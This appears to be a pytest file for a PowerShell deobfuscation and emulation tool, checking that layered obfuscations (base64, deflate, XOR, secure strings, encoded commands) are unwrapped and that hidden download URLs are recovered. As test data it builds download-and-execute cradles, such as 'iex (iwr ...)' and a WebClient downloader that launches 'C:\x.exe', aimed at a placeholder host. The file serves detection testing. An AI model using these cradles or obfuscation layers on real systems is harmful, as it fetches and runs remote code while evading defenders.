"""What each kind of obfuscation hides is found again, whatever the seed."""

from __future__ import annotations

import base64
import random as randoms

import pytest
from evaluate.powershell import obfuscate as o
from evaluate.powershell import tricks
from evaluate.powershell.psrun import run, value

SEEDS = range(30)
TEXTS = o.TEXTS | tricks.TEXTS
INVOKES = o.INVOKES + tricks.INVOKES
PAYLOADS = ("Write-Output 'INERT'", "http://a.example.test/x?y=1&z=%20", '$w = "it\'s"; {1} `t', "I", "INERT " * 20)


@pytest.mark.parametrize("family", TEXTS)
def test_texts_come_back(family):
    for seed in SEEDS:
        random = randoms.Random(f"{family}{seed}")
        text = random.choice(PAYLOADS)
        hidden = TEXTS[family](random, text)
        assert value(hidden) == text, hidden


def test_texts_within_texts():
    for seed in range(60):
        random = randoms.Random(seed)
        text = random.choice(PAYLOADS[:2])
        first, second = random.sample(sorted(TEXTS), 2)
        hidden = TEXTS[second](random, f"throw {TEXTS[first](random, text)}")
        assert run(f"iex {hidden}" if hidden.startswith(("(", "$", "'")) else f"iex ({hidden})").values("eval.error") == [text], hidden


@pytest.mark.parametrize("number", range(len(INVOKES)))
def test_ways_to_run_a_text(number):
    for seed in range(12):
        random = randoms.Random(f"{number}{seed}")
        code = f"(New-Object Net.WebClient).DownloadString('http://a.example.test/{seed}')"
        hidden = TEXTS[random.choice(sorted(TEXTS))](random, code)
        out = run(INVOKES[number](random, hidden))
        assert out.urls == [f"http://a.example.test/{seed}"], INVOKES[number](random, hidden)
        assert number >= len(o.INVOKES) or code in out.layers


def test_encoded_commands():
    for seed in range(100):
        random = randoms.Random(seed)
        code = f"iex (iwr http://a.example.test/{seed})"
        out = run(o.encoded_command(random, code))
        assert out.urls == [f"http://a.example.test/{seed}"], o.encoded_command(randoms.Random(seed), code)
        assert out.layers[0] == code


def test_commands_members_types_and_variables_in_disguise():
    for seed in range(150):
        random = randoms.Random(seed)
        w, u = o.variable_name(random, "client"), o.variable_name(random, "url")
        text = (
            f"{w}={o.command_name(random, 'New-Object')} {o.casing(random, 'Net.WebClient')};"
            f"{u}={o.concat(random, 'http://a.example.test/x')};"
            f"{o.type_name(random, 'Net.ServicePointManager')}::SecurityProtocol='Tls12';"
            f"{w}{o.member(random, 'DownloadFile')}{random.choice(('', '.Invoke'))}({u},'C:\\x.exe');"
            f"{o.command_name(random, 'Start-Process')} 'C:\\x.exe'"
        )
        out = run(text)
        assert out.urls == ["http://a.example.test/x"], text
        assert out.values("effect.run") == [r"C:\x.exe"], text


def test_many_layers():
    for seed in range(6):
        random = randoms.Random(seed)
        code = "(New-Object Net.WebClient).DownloadFile('http://a.example.test/x','a.exe')"
        families = ("concat", "reorder", "base64_unicode", "deflated", "bxor", "split_codes", "secure_string", "replaced")
        for _ in range(6):
            code = random.choice(o.INVOKES)(random, o.TEXTS[random.choice(families)](random, code))
        out = run(code)
        assert out.urls == ["http://a.example.test/x"]
        assert len(out.layers) >= 6


@pytest.mark.parametrize("block", range(8))
def test_any_tricks_on_top_of_each_other(block):
    """What fetches the program, behind a prologue, within three to five layers."""
    for seed in range(25 * block, 25 * block + 25):
        random = randoms.Random(seed)
        code = random.choice(tricks.PROLOGUES) + random.choice(tricks.CRADLES)
        for _ in range(random.randint(3, 5)):
            if len(code) > 6_000:
                break
            code = INVOKES[random.randrange(len(INVOKES))](random, TEXTS[random.choice(sorted(TEXTS))](random, code))
        assert run(code).urls == ["http://a.example.test/x"], (seed, code)


@pytest.mark.parametrize("seed", range(6))
def test_secure_strings_with_a_damaged_key_or_digits(seed):
    random = randoms.Random(seed)
    text = "$w=New-Object Net.WebClient;$w.DownloadString('http://a.example.test/x');$w.DownloadString('http://b.example.test/y')"
    packed, key = o.sealed(random, text)
    form = base64.b64decode(packed[32:]).decode("utf-16-le").split("|")
    place = random.randrange(16, len(form[2]) - 64)
    others = [digit for digit in "0123456789abcdef" if digit != form[2][place]]
    digit = "\ue065" if seed < 2 else random.choice(others)
    form[2] = form[2][:place] + digit + form[2][place + 1 :]
    if seed > 2:
        key = key[:5] + bytes([key[5] ^ 0x2A]) + key[6:]
    packed = packed[:32] + base64.b64encode("|".join(form).encode("utf-16-le")).decode()
    out = run(
        f"iex ((New-Object Management.Automation.PSCredential ' ',('{packed}'|ConvertTo-SecureString -Key {','.join(map(str, key))})).GetNetworkCredential().Password)"
    )
    assert out.urls == ["http://a.example.test/x", "http://b.example.test/y"]
